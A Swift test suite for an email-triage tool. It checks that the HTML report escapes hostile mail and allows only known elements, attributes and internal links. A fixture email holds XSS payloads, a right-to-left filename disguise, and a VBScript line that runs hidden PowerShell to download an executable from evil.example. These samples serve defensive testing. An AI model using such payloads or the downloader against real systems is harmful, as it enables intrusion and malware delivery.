import Foundation
import MailTestSupport
import Testing

/// The triage page, as the binary writes it.
@Suite("Triage page")
struct ReportTests {
  let folder: TemporaryFolder

  init() throws { folder = try TemporaryFolder() }

  private func page(of casePath: String) throws -> String {
    let path = folder.path + "/report.html"
    let run = try Binary.run(["report", "--output", path, "--overwrite", "--case", casePath])
    #expect(run.status == 0)
    return try String(contentsOfFile: path, encoding: .utf8)
  }

  @Test func thePageTellsTheWholeStory() throws {
    let casePath = try sweptDemo.get().casePath
    let page = try page(of: casePath)
    #expect(try self.page(of: casePath) == page)
    #expect(page.contains("15 messages from"))
    let findings = try Binary.run(["findings", "list", "--case", casePath, "--format", "jsonl"]).objects()
    for finding in findings where finding["kind"] as? String != "exposure" {
      let id = try #require(finding["id"] as? String)
      #expect(page.contains("id=\"\(id)\""))
    }
    #expect(page.contains("turning point"))
    #expect(page.contains("ex01[.]corp[.]rheintal-ft[.]example"))
    #expect(page.contains("held 7 of 7 answered messages"))
    #expect(page.contains("class=\"differs\""))
    #expect(page.contains("<pre>"))
  }

  @Test func nothingLeadsOutAndNothingRuns() throws {
    try Self.isHarmless(try page(of: try sweptDemo.get().casePath))
  }

  @Test func hostileMailIsText() throws {
    let casePath = folder.path + "/hostile.db"
    let mail = try folder.write(Self.hostile, to: "hostile\"><script>alert(1)</script>.eml".replacing("/", with: "_"))
    #expect(try Binary.run(["scan", mail, "--case", casePath]).status == 0)
    let page = try page(of: casePath)
    try Self.isHarmless(page)
    #expect(page.contains("&lt;img"))
    #expect(page.contains("U+202E"))
  }

  @Test func aPageIsAnOutputOfAScanToo() throws {
    let path = folder.path + "/scan.html"
    let scan = ["scan", Fixtures.path("mail"), "--case", folder.path + "/c.db", "--output", "html=" + path]
    #expect([0, 3].contains(try Binary.run(scan).status))
    #expect(try String(contentsOfFile: path, encoding: .utf8).hasPrefix("<!doctype html>"))
    #expect(try Binary.run(["report", "--output", path, "--case", folder.path + "/c.db"]).status == 73)
  }

  /// Only known elements with known attributes, no link that leads out, and a policy that would forbid the rest.
  private static func isHarmless(_ page: String) throws {
    #expect(page.contains("default-src 'none'"))
    let elements: Set<Substring> = [
      "!doctype", "a", "b", "body", "code", "details", "div", "footer", "h1", "h2", "h3", "head", "header", "html", "i",
      "li", "line", "main", "meta", "nav", "ol", "p", "pre", "rect", "section", "span", "style", "summary", "svg",
      "table",
      "td", "text", "th", "time", "title", "tr", "ul",
    ]
    let attributes: Set<Substring> = [
      "aria-hidden", "aria-label", "charset", "class", "content", "height", "href", "http-equiv", "id", "lang", "name",
      "role", "rx", "text-anchor", "viewBox", "width", "x", "x1", "x2", "y", "y1", "y2",
    ]
    let body = try #require(page.split(separator: "</style>").last)
    for tag in body.matches(of: /<\/?([!a-zA-Z][^\s>\/]*)([^>]*)>/) {
      #expect(elements.contains(tag.output.1), "\(tag.output.0)")
      for attribute in tag.output.2.matches(of: /([a-zA-Z1-9-]+)=/) {
        #expect(attributes.contains(attribute.output.1), "\(tag.output.0)")
      }
    }
    for match in body.matches(of: /<a [^>]*href="([^"]*)"/) { #expect(match.output.1.hasPrefix("#")) }
    let lower = page.lowercased()
    for wrong in ["http://", "https://", "url(", "@import"] { #expect(!lower.contains(wrong), "\(wrong)") }
  }

  private static let hostile = """
    From: "<img src=x onerror=alert(1)>" <evil"onclick="x@evil.example>
    To: <script>@corp.example, victim@corp.example
    Subject: Re: <img src=https://evil.example/p.gif> \u{202E}txt.exe &lt;b&gt;
    Date: Tue, 14 Sep 2021 08:00:00 +0000
    Message-ID: <"><script>alert(1)</script>@evil.example>
    MIME-Version: 1.0
    Content-Type: multipart/mixed; boundary=b

    --b
    Content-Type: text/html

    <script>alert(1)</script><a href="javascript:alert(1)" onclick="x()">see https://evil.example/x</a>
    --b
    Content-Type: application/octet-stream; name="\"><script>alert(2)</script>.vbs"
    Content-Disposition: attachment; filename="\"><script>alert(2)</script>.vbs"

    CreateObject("WScript.Shell").Run "powershell -w hidden -c (New-Object Net.WebClient).DownloadFile('http://evil.example/a','a.exe')"
    --b--

    """
}
